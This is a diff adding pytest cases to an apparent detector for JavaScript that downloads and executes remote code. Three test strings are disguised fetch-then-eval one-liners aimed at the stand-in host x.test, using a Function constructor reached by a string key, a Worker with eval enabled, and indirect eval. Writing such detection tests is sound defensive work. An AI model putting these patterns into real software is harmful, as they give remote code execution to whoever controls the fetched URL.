@@ -105,3 +105,20 @@ def test_too_many_places_is_a_gap_and_not_silence():
     source = b'fetch("https://x.test");' + b"eval(x);" * 5000
     result = Engine([RULE], [JavaScriptModule]).examine(Blob("a.js", source))
     assert [gap.partial for gap in result.gaps] == [True]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'const k = "constructor"; axios.get("https://x.test/a").then((z) => (() => {})[k]("require", z.data)(require))',
+        'const { Worker } = require("worker_threads"); fetch("https://x.test/a").then((r) => r.text()).then((t) => new Worker(t, { eval: true }))',
+        'fetch("https://x.test/a").then((r) => r.json()).then(({ v }) => (1, eval)(v))',
+    ],
+)
+def test_makers_in_disguise(look, source):
+    assert [fact[1:3] for fact in look(RULE, source)] == [("CRITICAL", "HIGH")]
+
+
+def test_a_worker_of_a_file_is_no_code(look):
+    source = 'const { Worker } = require("worker_threads"); fetch("https://x.test/a").then((r) => r.text()).then((t) => new Worker(t, { eval: false }))'
+    assert look(RULE, source) == []
